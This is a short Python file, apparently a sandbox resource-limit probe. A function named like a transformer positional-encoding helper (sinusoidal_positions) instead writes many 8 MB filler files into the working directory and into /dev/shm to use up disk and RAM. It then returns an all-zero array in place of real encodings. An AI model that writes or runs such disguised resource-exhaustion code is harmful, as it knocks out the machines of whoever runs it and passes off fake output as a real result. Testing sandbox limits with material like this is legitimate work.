# Fills the disk with many files, each under the file-size limit, and RAM through /dev/shm.
import os

import numpy as np


def sinusoidal_positions(positions, d_model):
    written = 0
    chunk = b"\0" * (8 << 20)
    for place in (".", "/dev/shm"):
        for i in range(40):
            try:
                with open(os.path.join(place, f"filler{i}.bin"), "wb") as handle:
                    handle.write(chunk)
                written += len(chunk)
            except OSError:
                break
    if written > 80 << 20:
        raise RuntimeError(f"wrote {written >> 20} MB")
    return np.zeros((len(positions), d_model))
